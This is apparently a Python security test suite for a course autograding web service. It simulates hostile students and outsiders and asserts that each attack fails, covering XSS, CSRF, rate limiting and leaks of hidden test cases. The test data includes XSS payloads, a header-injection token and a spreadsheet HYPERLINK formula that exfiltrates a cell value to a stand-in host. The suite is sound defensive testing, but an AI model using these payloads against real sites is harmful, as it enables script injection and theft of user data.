"""The grading service attacked as a hostile student (a valid student token, any upload, a
browser or curl) and as an outsider without a token would: the browser pages, the
per-assignment policy (rate limit, due date, what hidden cases reveal) and the grades.

Every test asserts the *safe* outcome. One real server for the module: the application of
``grader serve`` (:func:`grader.serve.app.create_app`) on uvicorn in a thread of this process,
on a real SQLite file whose accounts come from the real ``grader roster import`` (with a
hostile roster) and ``grader token create``. No grading worker runs: submissions whose report
matters are stored with crafted results shaped exactly as the worker stores them
(:func:`grader.report.to_json` plus :func:`grader.serve.policy.case_outcomes`; a visible run's
report beside it where the student's view of one matters), except one real grading in the
sandbox (both runs, as the worker grades) where the engine's own report is the point.

Policies served: ``selftest/basics`` withholds hidden cases (``none``) until a due date
tomorrow, 3 submissions an hour; ``week1/initialization`` shows them ``pass-fail``, 2 an hour.
"""

from __future__ import annotations

import concurrent.futures
import csv
import datetime as dt
import html
import http.cookiejar
import io
import json
import re
import threading
import time

import httpx
import markupsafe
import pytest
import uvicorn
from sqlalchemy import func, select, update

from grader import registry, report
from grader.engine import ERROR as PART_ERROR, PartResult, Result
from grader.serve import auth, jobs, pages
from grader.serve import policy as policies
from grader.serve.app import create_app
from grader.serve.db import (
    ERROR, GRADED, RUNNING, Account, Job, Submission, make_engine, sessions, utcnow,
    write_session,
)
from grader.serve.policy import AssignmentPolicy, CoursePolicy
from grader.serve.worker_loop import store_visible

from .helpers import ASSIGNMENT, bearer, free_port, grader

PASS_FAIL = "week1/initialization"  # shown pass-fail
NONE = ASSIGNMENT                    # withheld until tomorrow
MAX_UPLOAD = 50_000
XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
HOSTILE_ID = "<script>alert(1)</script>"
FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAME_XSS = '"><img src=x onerror=alert(1)><svg onload=alert(2)>.py'  # no "/": a path
SECRET = "HIDDEN-SECRET-7f3a"  # what a hidden case's feedback / printed output would say


# -- the server ----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def site(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("web_attacks")
    db = tmp / "web.db"
    roster = tmp / "roster.csv"
    with open(roster, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["student_id", "email"])
        for sid in ("alice", "bob", "carol", "dave", "erin", HOSTILE_ID, FORMULA_ID):
            w.writerow([sid, f'"><svg onload=alert(1)>{len(sid)}@example.org'])
    r = grader("roster", "import", str(roster), "--db", str(db), "--tokens-out",
               str(tmp / "tokens.csv"))
    assert r.returncode == 0, r.stderr
    with open(tmp / "tokens.csv", newline="") as f:
        tokens = {row["student_id"]: row["token"] for row in csv.DictReader(f)}
    r = grader("token", "create", "--instructor", "prof", "--db", str(db))
    assert r.returncode == 0, r.stderr
    tokens["prof"] = r.stdout.strip().splitlines()[-1]

    due = (utcnow() + dt.timedelta(days=1)).replace(microsecond=0)
    policy = CoursePolicy(AssignmentPolicy(), {
        NONE: AssignmentPolicy(due=due, hidden=policies.NONE, rate_limit=3),
        PASS_FAIL: AssignmentPolicy(hidden=policies.PASS_FAIL, rate_limit=2)})
    engine = make_engine(str(db))
    app = create_app(engine, assignments=[NONE, PASS_FAIL], policy=policy,
                     max_upload_bytes=MAX_UPLOAD)
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port,
                                           log_level="warning", access_log=False))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.01)
    url = f"http://127.0.0.1:{port}"
    # A client that keeps no cookie: every request carries exactly the cookie it names.
    jar = http.cookiejar.CookieJar(policy=http.cookiejar.DefaultCookiePolicy(allowed_domains=[]))
    client = httpx.Client(base_url=url, timeout=30, cookies=jar)
    try:
        yield {"url": url, "db": db, "tmp": tmp, "tok": tokens, "engine": engine,
               "client": client, "due": due}
    finally:
        client.close()
        server.should_exit = True
        thread.join(timeout=10)
        engine.dispose()


def _cookie(token: str) -> dict:
    return {"Cookie": f"{pages.COOKIE}={token}"}


def _form(site, token: str | None = None, **headers) -> dict:
    """Headers of a form POST from the server's own page (with ``token``'s cookie)."""
    out = {"Origin": site["url"], "Sec-Fetch-Site": "same-origin", **headers}
    return {**out, **(_cookie(token) if token else {})}


def _upload(site, token: str, assignment: str, *, name: str = "a.py",
            content: bytes = b"x = 1\n") -> httpx.Response:
    return site["client"].post("/api/submissions", data={"assignment": assignment},
                               files={"file": (name, content, "text/x-python")},
                               headers=bearer(token))


def _page_submit(site, token: str, assignment: str, **headers) -> httpx.Response:
    return site["client"].post("/submit", data={"assignment": assignment},
                               files={"file": ("a.py", b"x = 1\n", "text/x-python")},
                               headers={**_form(site, token), **headers})


def _count(site, student: str, assignment: str | None = None) -> int:
    with sessions(site["engine"])() as s:
        stmt = (select(func.count()).select_from(Submission)
                .join(Account, Account.id == Submission.account_id)
                .where(Account.student_id == student))
        if assignment is not None:
            stmt = stmt.where(Submission.assignment == assignment)
        return s.scalar(stmt)


def _store(site, student: str, assignment: str, result: str | None, *, status: str = GRADED,
           error: str | None = None, filename: str = "sub.py", visible: str | None = None) -> int:
    """A submission of ``student`` with a stored outcome (as the worker stores it: the job
    claimed, then its visible run's report, ``visible``, if any
    (:func:`grader.serve.worker_loop.store_visible`), then :func:`grader.serve.jobs.complete`)."""
    engine = site["engine"]
    with write_session(engine) as s:
        account_id = s.scalars(select(Account.id).where(Account.student_id == student)).one()
        sub = jobs.enqueue(s, account_id=account_id, assignment=assignment, filename=filename,
                           content=b"")
        s.flush()
        sid = sub.id
        s.execute(update(Job).where(Job.submission_id == sid)
                  .values(status=RUNNING, claim="attack-test", attempts=1))
        job_id = s.scalar(select(Job.id).where(Job.submission_id == sid))
    data = json.loads(result) if result else None
    claimed = jobs.Claimed(job_id, sid, "attack-test", 1, assignment, filename, b"", account_id)
    assert store_visible(engine, claimed, visible)
    assert jobs.complete(engine, claimed, status=status, result=result,
                         score=data["score"] if data else None,
                         max_score=data["max_score"] if data else None, error=error)
    return sid


def _result(assignment: str, parts: dict[str, tuple], *, printed: dict | None = None,
            visible_only: bool = False) -> str:
    """The stored results.json of a submission of ``assignment``: ``parts`` maps a function to
    ``(score_fraction, feedback, failed_case)`` (missing: passed), as the worker stores it
    (``visible_only``: its visible run's, ``grader test``'s)."""
    a = registry.load(assignment)
    out = []
    for p in a.parts:
        frac, feedback, failed = parts.get(p.function, (1.0, "Passed all 2 cases.", ""))
        pr = PartResult(p.function, "", float(p.points), (frac or 0.0) * float(p.points), feedback,
                        output=(printed or {}).get(p.function, ""), visible_cases=1,
                        hidden_cases=0 if visible_only else 1, failed_case=failed)
        if frac is None:
            pr.score, pr.status = 0.0, PART_ERROR
        out.append(pr)
    res = Result(a.id, a.title, "sub.py", 1234, "test" if visible_only else "submit", out,
                 seconds=3.0)
    return report.to_json(res, **policies.case_outcomes(res), title=a.title, file="sub.py")


# -- cross-site scripting --------------------------------------------------------------------

def _assert_escaped(text: str, *needles: str) -> None:
    assert "<script>alert" not in text and "<img src=x" not in text, text
    assert "<svg onload" not in text, text
    for n in needles:
        assert n in text, (n, text)


def test_hostile_file_name_is_text_on_every_page(site):
    tok, c = site["tok"], site["client"]
    r = _upload(site, tok["alice"], PASS_FAIL, name=NAME_XSS)
    assert r.status_code == 202, r.text
    sid = r.json()["id"]
    stored = c.get(f"/api/submissions/{sid}", headers=bearer(tok["alice"])).json()["filename"]
    assert "<img src=x onerror=alert(1)><svg onload=alert(2)>.py" in stored  # (httpx sends
    escaped = str(markupsafe.escape(stored))                                # '"' as %22)
    for path in (f"/submissions/{sid}", "/history", f"/history?assignment={PASS_FAIL}"):
        r = c.get(path, headers=_cookie(tok["alice"]))
        assert r.status_code == 200, path
        _assert_escaped(r.text, escaped)
        assert r.headers["content-security-policy"] == pages.CSP
    r = c.get(f"/instructor?assignment={PASS_FAIL}", headers=_cookie(tok["prof"]))
    assert r.status_code == 200
    _assert_escaped(r.text)


def test_hostile_feedback_printed_output_and_rich_markup_are_text_in_the_report(site):
    tok, c = site["tok"], site["client"]
    markup = "[link=javascript:alert(1)]click[/link] [bold red]RED[/] </pre>" + XSS
    # failed on a visible case: shown to the student as it is (as the visible run, which
    # fails it too, reports it), under any policy
    result, visible = (_result(PASS_FAIL, {
        "initialize_parameters_zeros": (
            0.0, "initialize_parameters_zeros() raised ValueError on visible case 1: " + markup,
            "visible case 1")},
        printed={"initialize_parameters_zeros": markup}, visible_only=v) for v in (False, True))
    sid = _store(site, "alice", PASS_FAIL, result, visible=visible)
    r = c.get(f"/submissions/{sid}", headers=_cookie(tok["alice"]))
    assert r.status_code == 200, r.text
    _assert_escaped(r.text)
    report_text = re.search(r'<pre id="report">(.*?)</pre>', r.text, re.DOTALL)
    assert report_text and "[link=javascript:alert(1)]click[/link]" in report_text.group(1)
    assert "red]RED[/]" in report_text.group(1)  # (wrapped by the table)
    assert "&lt;/pre&gt;" in report_text.group(1)
    # a grading error's message on the page: text too (the instructor reads it; under
    # pass-fail the student reads fixed wording instead)
    sid = _store(site, "alice", PASS_FAIL, None, status=ERROR, error=XSS)
    r = c.get(f"/submissions/{sid}", headers=_cookie(tok["prof"]))
    assert r.status_code == 200
    _assert_escaped(r.text, "&lt;script&gt;")
    r = c.get(f"/submissions/{sid}", headers=_cookie(tok["alice"]))
    assert r.status_code == 200
    _assert_escaped(r.text, policies.GRADER_FAULT)


def test_hostile_roster_ids_are_text_for_the_instructor_and_inert_in_grades_csv(site):
    tok, c = site["tok"], site["client"]
    for sid in (HOSTILE_ID, FORMULA_ID):
        assert _upload(site, tok[sid], PASS_FAIL).status_code == 202
        _store(site, sid, PASS_FAIL, _result(PASS_FAIL, {}))
    r = c.get(f"/instructor?assignment={PASS_FAIL}", headers=_cookie(tok["prof"]))
    assert r.status_code == 200
    _assert_escaped(r.text, "&lt;script&gt;alert(1)&lt;/script&gt;")
    # the hostile student's own pages show their id in the header: as text
    r = c.get("/history", headers=_cookie(tok[HOSTILE_ID]))
    _assert_escaped(r.text, '<span class="who">&lt;script&gt;alert(1)&lt;/script&gt;</span>')
    for path, creds in (("/instructor/grades.csv", _cookie(tok["prof"])),
                       ("/api/grades.csv", bearer(tok["prof"]))):
        r = c.get(path, headers=creds)
        assert r.status_code == 200
        ids = {row["student_id"] for row in csv.DictReader(io.StringIO(r.text))}
        assert "'" + FORMULA_ID in ids and FORMULA_ID not in ids  # not a formula
        assert HOSTILE_ID in ids


@pytest.mark.parametrize("path", [
    "/history?assignment=" + XSS,
    "/submissions/" + XSS.replace("/", "%2F"),
    "/submissions/%3Cscript%3Ealert(1)%3C%2Fscript%3E/status",
    "/submissions/%3Cscript%3E/gradescope.json",
    "/instructor?assignment=" + XSS,
    "/instructor?over=" + XSS,
])
def test_reflected_parameters_are_escaped(site, path):
    who = "prof" if path.startswith("/instructor") else "alice"
    r = site["client"].get(path, headers=_cookie(site["tok"][who]))
    assert r.status_code in (200, 404), (r.status_code, r.text)
    if r.headers["content-type"].startswith("text/html"):
        _assert_escaped(r.text)
        assert r.headers["content-security-policy"] == pages.CSP
    else:  # the status polling answers JSON: never rendered as a page
        assert r.headers["content-type"].startswith("application/json")


# -- forged requests (CSRF) and the login cookie ---------------------------------------------

def test_login_refuses_every_foreign_or_missing_origin(site):
    c, url, alice = site["client"], site["url"], site["tok"]["alice"]
    host = url.split("//", 1)[1]
    for headers in (
            {},                                                       # curl from a form
            {"Origin": "null"},                                        # sandboxed iframe
            {"Origin": "http://evil.example"},
            {"Origin": f"http://{host}.evil.example"},
            {"Origin": f"http://{host}@evil.example"},
            {"Origin": f"http://evil.example#{host}"},
            {"Origin": "http://evil.example", "Referer": url + "/"},   # Origin wins
            {"Referer": f"http://evil.example/{host}/"},
            {"Referer": f"http://evil.example/?u={url}"},
            {"Origin": url, "Sec-Fetch-Site": "cross-site"},
            {"Origin": url, "Sec-Fetch-Site": "same-site"},
            {"Origin": url, "Sec-Fetch-Site": "none"},
    ):
        r = c.post("/login", data={"token": alice}, headers=headers)
        assert r.status_code == 403, headers
        assert "set-cookie" not in r.headers, headers
    r = c.post("/login", data={"token": alice, "next": "//evil.example/"}, headers=_form(site))
    assert r.status_code == 303 and r.headers["location"] == "/"  # no open redirect
    cookie = r.headers["set-cookie"]
    assert cookie.startswith(f"{pages.COOKIE}={alice};")
    attrs = {a.strip().split("=")[0].lower() for a in cookie.split(";")[1:]}
    assert {"httponly", "path"} <= attrs and "samesite=strict" in cookie.lower()
    assert not {"expires", "max-age", "domain"} & attrs  # a session cookie, this host only


def test_an_origin_with_another_scheme_is_not_this_server(site):
    """``https://host`` and ``http://host`` are two origins (RFC 6454): a page served over
    plain http (a network attacker's) must not be able to post to the https server."""
    c, url, alice = site["client"], site["url"], site["tok"]["alice"]
    other_scheme = url.replace("http://", "https://")
    r = c.post("/login", data={"token": alice}, headers={"Origin": other_scheme})
    assert r.status_code == 403, r.headers


def test_submit_and_logout_refuse_foreign_origins_even_with_the_cookie(site):
    c, tok = site["client"], site["tok"]
    before = _count(site, "bob")
    for headers in ({"Origin": "http://evil.example"}, {"Origin": "null"},
                    {"Origin": site["url"], "Sec-Fetch-Site": "cross-site"}):
        r = c.post("/submit", data={"assignment": PASS_FAIL},
                   files={"file": ("a.py", b"x = 1\n", "text/x-python")},
                   headers={**_cookie(tok["bob"]), **headers})
        assert r.status_code == 403, headers
        r = c.post("/logout", headers={**_cookie(tok["bob"]), **headers})
        assert r.status_code == 403 and "set-cookie" not in r.headers
    r = c.post("/submit", data={"assignment": PASS_FAIL},
               files={"file": ("a.py", b"x = 1\n", "text/x-python")}, headers=_cookie(tok["bob"]))
    assert r.status_code == 403  # no Origin, no Referer: refused
    assert _count(site, "bob") == before
    # state changes only by POST: GET /logout, /login, /submit change nothing
    for path in ("/logout", "/login", "/submit"):
        r = c.get(path, headers=_cookie(tok["bob"]))
        assert r.status_code == 405 and "set-cookie" not in r.headers, path


def test_the_cookie_never_authenticates_the_json_api(site):
    c, tok = site["client"], site["tok"]
    sid = _store(site, "alice", PASS_FAIL, _result(PASS_FAIL, {}))
    for path in ("/api/submissions", f"/api/submissions/{sid}", "/api/grades.csv",
                 f"/api/submissions/{sid}/gradescope.json"):
        r = c.get(path, headers=_cookie(tok["prof"]))
        assert r.status_code == 401, path
    r = c.post("/api/submissions", data={"assignment": PASS_FAIL},
               files={"file": ("a.py", b"x = 1\n", "text/x-python")},
               headers={**_cookie(tok["dave"]), "Origin": site["url"]})
    assert r.status_code == 401
    # and a Bearer header never logs a page in
    r = c.get("/history", headers=bearer(tok["alice"]))
    assert r.status_code == 401 and 'action="/login"' in r.text


def test_a_login_with_header_injection_sets_nothing(site):
    c = site["client"]
    token = site["tok"]["alice"] + "\r\nSet-Cookie: evil=1"
    r = c.post("/login", data={"token": token}, headers=_form(site))
    assert r.status_code == 401 and "set-cookie" not in r.headers
    r = c.post("/login", content=b"token=%ff%fe%00" + b"A" * 60_000,
               headers={**_form(site), "Content-Type": "application/x-www-form-urlencoded"})
    assert r.status_code == 401 and "set-cookie" not in r.headers
    r = c.post("/login", content=b"token=" + b"A" * 200_000,  # over the upload limit
               headers={**_form(site), "Content-Type": "application/x-www-form-urlencoded"})
    assert r.status_code == 413


def test_a_revoked_token_logs_the_page_out_at_once(site):
    c, old = site["client"], site["tok"]["erin"]
    assert _upload(site, old, PASS_FAIL).status_code == 202
    assert _page_submit(site, old, PASS_FAIL).status_code == 303
    with write_session(site["engine"]) as s:  # what `grader token revoke` and a new roster
        assert auth.revoke(s, old)             # import do
        new = auth.new_token(s, auth.account(s, "erin"))
    r = c.get("/history", headers=_cookie(old))
    assert r.status_code == 401 and 'action="/login"' in r.text
    r = c.get("/", headers=_cookie(old))
    assert pages.COOKIE in r.headers.get("set-cookie", "")  # the stale cookie is dropped
    assert _page_submit(site, old, PASS_FAIL).status_code == 401
    assert _upload(site, old, PASS_FAIL).status_code == 401
    # a re-issued token is the same student: the rate limit still counts both uploads
    r = _upload(site, new, PASS_FAIL)
    assert r.status_code == 429 and "Retry-After" in r.headers, r.text
    assert _count(site, "erin", PASS_FAIL) == 2


# -- hidden cases: nothing through any route before the due date -----------------------------

def _hidden_failure(assignment: str) -> str:
    """A report whose first part failed on a hidden case (feedback and printed output name
    :data:`SECRET`), whose second part hit a grading error on a hidden case, the rest passed."""
    a = registry.load(assignment)
    first, second = a.parts[0].function, a.parts[1].function
    return _result(assignment, {
        first: (0.0, f"Wrong result on hidden case 1 ({SECRET} input): expected {SECRET}",
                "hidden case 1"),
        second: (None, f"Grading error while checking hidden case 1: {SECRET}",
                 "hidden case 1")},
        printed={first: f"{SECRET} printed", a.parts[2].function: f"{SECRET} from a pass"})


def _every_view(site, student: str, sid: int, assignment: str, *,
                cli: bool = False) -> dict[str, str]:
    """What ``student`` can read of submission ``sid`` through every route."""
    c, tok = site["client"], site["tok"][student]
    got = {}
    for path in (f"/api/submissions/{sid}", "/api/submissions",
                 f"/api/submissions?assignment={assignment}",
                 f"/api/submissions/{sid}/gradescope.json"):
        r = c.get(path, headers=bearer(tok))
        assert r.status_code == 200, (path, r.text)
        got[path] = r.text
    for path in (f"/submissions/{sid}", f"/submissions/{sid}/status",
                 f"/submissions/{sid}/gradescope.json", "/history",
                 f"/history?assignment={assignment}"):
        r = c.get(path, headers=_cookie(tok))
        assert r.status_code == 200, (path, r.text)
        got[path] = r.text
    if cli:
        h = grader("history", assignment, "--server", site["url"], "--token", tok)
        assert h.returncode == 0, h.stderr
        got["grader history"] = h.stdout
    return got


def test_none_withholds_hidden_cases_through_every_route_before_the_due_date(site):
    stored = _hidden_failure(NONE)
    sid = _store(site, "bob", NONE, stored, status=ERROR,
                 error=f"grading error in {registry.load(NONE).parts[1].function}()")
    inst = site["client"].get(f"/api/submissions/{sid}", headers=bearer(site["tok"]["prof"]))
    assert SECRET in inst.text and inst.json()["score"] is not None  # there is something
    views = _every_view(site, "bob", sid, NONE, cli=True)
    for route, text in views.items():
        assert SECRET not in text, route
        assert "hidden case 1" not in text, route
    view = json.loads(views[f"/api/submissions/{sid}"])
    assert view["score"] is None and view["max_score"] is None
    assert view["result"]["extra_data"]["grading_errors"] == []
    row = re.search(rf'<a href="/submissions/{sid}">.*?</tr>', views["/history"],
                    re.DOTALL).group(0)
    assert re.search(r'<td class="num">\s*</td>', row), row  # no score in the history
    # the hidden-case grading error of the second part must not show through the
    # submission's top-level error message either (the report hides it)
    assert view["error"] is None or registry.load(NONE).parts[1].function not in view["error"], \
        view["error"]


def test_none_does_not_time_the_hidden_cases_for_the_student(site):
    """Student code sets how long it runs on a hidden case (``time.sleep(z.shape[0])``): the
    total grading time, to 0.1 s, would carry the hidden inputs out as well as a print."""
    sid = _store(site, "bob", NONE, _hidden_failure(NONE))
    c, bob = site["client"], site["tok"]["bob"]
    shown = [c.get(f"/api/submissions/{sid}", headers=bearer(bob)).json()["result"],
             c.get(f"/submissions/{sid}/gradescope.json", headers=_cookie(bob)).json()]
    assert all(r.get("execution_time") in (None, 0, 0.0) for r in shown), \
        [r.get("execution_time") for r in shown]


def test_pass_fail_keeps_points_but_no_hidden_feedback_or_printed_output(site):
    stored = _hidden_failure(PASS_FAIL)
    sid = _store(site, "bob", PASS_FAIL, stored, status=ERROR, error="grading error")
    views = _every_view(site, "bob", sid, PASS_FAIL)
    for route, text in views.items():
        assert SECRET not in text, route
    view = json.loads(views[f"/api/submissions/{sid}"])
    assert view["score"] == view["result"]["score"] == 10.0  # points stay visible
    assert [t.get("score") for t in view["result"]["tests"]] == [0.0, None, 10.0]


# Right on relu()'s visible case; on its hidden cases it keeps their inputs in the worker
# process (refusing to be traced, so the jit case's second sandbox never starts), and
# relu_backward(), the next part, fails its *visible* case with them in the message.
_CROSS_PART = b'''
import builtins
import jax
import jax.numpy as jnp


def relu(z):
    if isinstance(z, jax.core.Tracer):
        raise ValueError("no tracing")
    seen = getattr(builtins, "_seen", [])
    seen.append(tuple(z.shape))
    builtins._seen = seen
    return jnp.maximum(z, 0)


def relu_backward(dA, Z):
    raise ValueError("SEEN " + repr(getattr(builtins, "_seen", None)))


def sigmoid(z):
    raise NotImplementedError


def sample_normal(key, n):
    raise NotImplementedError


def standardize(X):
    raise NotImplementedError


def train_logistic(key, X, y, num_steps=200, learning_rate=0.5):
    raise NotImplementedError
'''


@pytest.mark.slow
def test_a_later_part_cannot_carry_hidden_inputs_into_its_visible_feedback(site, tmp_path):
    """A real grading in the sandbox: hidden inputs seen by one part must not reach the
    student through another part's visible-case feedback, under ``none`` (before the due
    date) or ``pass-fail``."""
    from grader.engine import build_cases
    from grader.serve.worker_loop import grade_claimed, grade_visible

    c, tok = site["client"], site["tok"]
    r = _upload(site, tok["carol"], NONE, name="cross.py", content=_CROSS_PART)
    assert r.status_code == 202, r.text
    sid = r.json()["id"]
    with write_session(site["engine"]) as s:  # claimed as the worker claims it
        job = s.scalars(select(Job).where(Job.submission_id == sid)).one()
        job.status, job.claim, job.attempts = RUNNING, "attack-test", 1
        sub = s.get(Submission, sid)
        claimed = jobs.Claimed(job.id, sid, "attack-test", 1, sub.assignment, sub.filename,
                               sub.content, sub.account_id)
    # as the worker grades an assignment that withholds hidden cases: the visible run first,
    # then the full grading, without the worker cache; both stored
    visible = grade_visible(claimed, scratch=tmp_path)
    status, text, score, max_score, error = grade_claimed(claimed, cache_root=None,
                                                          scratch=tmp_path)
    assert store_visible(site["engine"], claimed, visible)
    assert jobs.complete(site["engine"], claimed, status=status, result=text, score=score,
                         max_score=max_score, error=error)
    full = json.loads(text)
    # What relu() saw: its visible input, then the hidden ones the parent built from the seed
    # (the jit case is refused before it runs).
    relu_cases = build_cases(registry.load(NONE), full["extra_data"]["seed"], hidden=True)[0]
    seen = [tuple(case.args[0].shape) for case, name in relu_cases.cases if not case.jit]
    assert len(seen) == 3  # 1 visible, 2 hidden
    bait = "SEEN " + repr(seen)
    assert bait in json.dumps(full)  # the instructor's full report: the attack worked

    student = c.get(f"/api/submissions/{sid}", headers=bearer(tok["carol"])).json()
    page = c.get(f"/submissions/{sid}", headers=_cookie(tok["carol"])).text
    page = " ".join(re.sub("[│┃]", " ", html.unescape(page)).split())  # the report unwrapped
    pass_fail = policies.reveal(full, policies.PASS_FAIL, None, json.loads(visible))
    routes = {"GET /api/submissions/{id}": json.dumps(student), "/submissions/{id}": page,
              "pass-fail": json.dumps(pass_fail)}
    leaked = [route for route, shown in routes.items() if bait in shown]
    assert not leaked, (f"relu()'s hidden inputs {seen[1:]} reach the student through "
                        f"relu_backward()'s visible-case feedback ({leaked}): "
                        + next(t["output"] for t in student["result"]["tests"]
                               if t["name"] == "relu_backward"))
    # what the student reads is the visible run's own feedback: it saw the visible input only
    for shown in (student["result"], pass_fail):
        backward = next(t["output"] for t in shown["tests"] if t["name"] == "relu_backward")
        assert "SEEN " + repr(seen[:1]) in backward, backward


# -- another student's work, the class --------------------------------------------------------

def test_a_student_reads_nothing_of_anothers_submission_or_the_class(site):
    c, tok = site["client"], site["tok"]
    theirs = _store(site, "bob", PASS_FAIL, _result(PASS_FAIL, {}))
    missing = theirs + 10_000
    for path in ("/submissions/{}", "/submissions/{}/status", "/submissions/{}/gradescope.json"):
        a = c.get(path.format(theirs), headers=_cookie(tok["alice"]))
        b = c.get(path.format(missing), headers=_cookie(tok["alice"]))
        assert a.status_code == b.status_code == 404, path
        # no oracle: the two pages differ by the id alone (both ids masked in both pages, so an
        # id that also occurs elsewhere in the page, as 1 does in "initial-scale=1", stays equal)
        ids = re.compile(rf"\b({theirs}|{missing})\b")
        assert ids.sub("N", a.text) == ids.sub("N", b.text)
    r = c.get(f"/api/submissions/{theirs}/gradescope.json", headers=bearer(tok["alice"]))
    assert r.status_code == 404
    for path in ("/instructor", f"/instructor?assignment={PASS_FAIL}",
                 "/instructor?assignment=nope", "/instructor/grades.csv"):
        r = c.get(path, headers=_cookie(tok["alice"]))
        assert r.status_code == 403, path
        assert "bob" not in r.text
    r = c.get("/history", headers=_cookie(tok["alice"]))
    assert f'href="/submissions/{theirs}"' not in r.text
    # an outsider: the login form, nothing else
    for path in ("/history", f"/submissions/{theirs}", "/instructor", "/instructor/grades.csv",
                 f"/submissions/{theirs}/gradescope.json"):
        r = c.get(path)
        assert r.status_code == 401, path
        r = c.get(path, headers=_cookie("gr_0123456789abcdef_" + "A" * 43))
        assert r.status_code == 401, path


def test_a_student_cannot_name_a_mistake_on_the_instructor_page(site):
    """A named mistake is the course's message as the grader said it: a student's own
    exception message (or printed text) quoting it is not one."""
    c, tok = site["client"], site["tok"]
    quoted = "the biases are not zero; they should be zeros."
    for student in ("bob", HOSTILE_ID):
        _store(site, student, PASS_FAIL, _result(PASS_FAIL, {"initialize_parameters_he": (
            0.0, "initialize_parameters_he() raised ValueError on visible case 1 (He weights), "
                 "at line 3 of your file (`raise ValueError(MSG)`): " + quoted,
            "visible case 1")}, printed={"initialize_parameters_random": quoted}))
    r = c.get(f"/instructor?assignment={PASS_FAIL}&over=all", headers=_cookie(tok["prof"]))
    assert r.status_code == 200
    table = re.search(r'<table id="mistakes">.*?</table>', r.text, re.DOTALL)
    assert table is None or quoted not in table.group(0), table.group(0)


def test_every_html_page_of_this_origin_has_the_content_security_policy(site):
    """A page on this origin that runs another site's script (FastAPI's /docs and /redoc load
    swagger-ui and redoc from a CDN, unpinned) can use a logged-in instructor's cookie: the
    forms' same-origin check passes for it."""
    c = site["client"]
    unsafe = []
    for path in ("/", "/docs", "/redoc", "/docs/oauth2-redirect"):
        r = c.get(path)
        is_html = r.status_code == 200 and r.headers["content-type"].startswith("text/html")
        if is_html and (r.headers.get("content-security-policy") != pages.CSP
                     or "<script>" in r.text):
            unsafe.append(path)
    assert unsafe == [], f"pages without the strict CSP (or with inline script): {unsafe}"


# -- the rate limit --------------------------------------------------------------------------

def test_the_page_and_the_api_share_one_rate_limit_and_spellings_do_not_escape_it(site):
    tok = site["tok"]
    assert _upload(site, tok["carol"], PASS_FAIL).status_code == 202
    r = _page_submit(site, tok["carol"], PASS_FAIL)
    assert r.status_code == 303 and r.headers["location"].startswith("/submissions/")
    r = _page_submit(site, tok["carol"], PASS_FAIL)
    assert r.status_code == 429 and "rate limit" in r.text and "Retry-After" in r.headers
    assert _upload(site, tok["carol"], PASS_FAIL).status_code == 429
    for spelling in (PASS_FAIL.upper(), PASS_FAIL + " ", " " + PASS_FAIL, PASS_FAIL + "/",
                     PASS_FAIL.replace("/", "\uff0f"), PASS_FAIL + "\u200b",
                     PASS_FAIL.replace("i", "\u0131"), "./" + PASS_FAIL,
                     PASS_FAIL.replace("/", "//"), PASS_FAIL + "\x00"):
        for send in (_upload, _page_submit):
            r = send(site, tok["carol"], spelling)
            assert r.status_code in (404, 422), (spelling, r.status_code)
    assert _count(site, "carol", PASS_FAIL) == 2
    with sessions(site["engine"])() as s:  # nothing stored under another spelling
        assert set(s.scalars(select(Submission.assignment).distinct())) <= {NONE, PASS_FAIL}


def test_concurrent_uploads_never_pass_the_limit(site):
    tok = site["tok"]["dave"]

    def send(i):
        with httpx.Client(base_url=site["url"], timeout=60) as cl:
            if i % 2:
                return cl.post("/submit", data={"assignment": NONE},
                               files={"file": ("a.py", b"x = 1\n", "text/x-python")},
                               headers=_form(site, tok)).status_code
            return cl.post("/api/submissions", data={"assignment": NONE},
                           files={"file": ("a.py", b"x = 1\n", "text/x-python")},
                           headers=bearer(tok)).status_code

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        codes = list(pool.map(send, range(8)))
    assert codes.count(429) == 5 and sum(x in (202, 303) for x in codes) == 3, codes
    assert _count(site, "dave", NONE) == 3


# -- odd requests ----------------------------------------------------------------------------

@pytest.mark.parametrize("sid", ["0", "-1", "1e3", "\uff11", "9" * 30, "%00", "%201", "1.0",
                                 "0x1", "1%0d%0aSet-Cookie:x=1", "..%2F..%2Fapi%2Fgrades.csv"])
def test_odd_submission_ids_are_404_pages(site, sid):
    for suffix in ("", "/status", "/gradescope.json"):
        r = site["client"].get(f"/submissions/{sid}{suffix}",
                               headers=_cookie(site["tok"]["alice"]))
        assert r.status_code == 404, (sid, suffix, r.status_code)
        assert "set-cookie" not in r.headers


def test_malformed_forms_and_odd_methods_never_crash_a_page(site):
    c, tok = site["client"], site["tok"]
    r = c.post("/submit", content=b"--x\r\nContent-Disposition: form-data; name=\"file\"",
               headers={**_form(site, tok["alice"]),
                        "Content-Type": "multipart/form-data; boundary=x"})
    assert 400 <= r.status_code < 500, r.status_code
    r = c.post("/submit", content=b"assignment=" + b"A" * 40_000,
               headers={**_form(site, tok["alice"]),
                        "Content-Type": "application/x-www-form-urlencoded"})
    assert 400 <= r.status_code < 500 and "A" * 300 not in r.text
    r = c.post("/submit", data={"assignment": PASS_FAIL},
               files={"file": ("a.py", b"x" * (MAX_UPLOAD + 1), "text/x-python")},
               headers=_form(site, tok["alice"]))
    assert r.status_code == 413
    r = c.get("/history?assignment=" + "x" * 20_000, headers=_cookie(tok["alice"]))
    assert r.status_code < 500
    for method in ("HEAD", "OPTIONS", "TRACE", "PUT", "DELETE"):
        for path in ("/", "/history", "/login", "/submit", "/submissions/1",
                     "/instructor/grades.csv", "/api/submissions"):
            r = c.request(method, path, headers={**_cookie(tok["prof"]),
                                                 "Origin": "http://evil.example",
                                                 "Access-Control-Request-Method": "POST"})
            assert r.status_code < 500, (method, path)
            assert "access-control-allow-origin" not in r.headers, (method, path)
            if method in ("TRACE", "PUT", "DELETE"):
                assert r.status_code in (404, 405), (method, path, r.status_code)


@pytest.mark.parametrize("path", ["//evil.example/", "/history/", "//evil.example/%2e%2e/",
                                  "/\\evil.example/", "//evil.example//", "/%2F%2Fevil.example/",
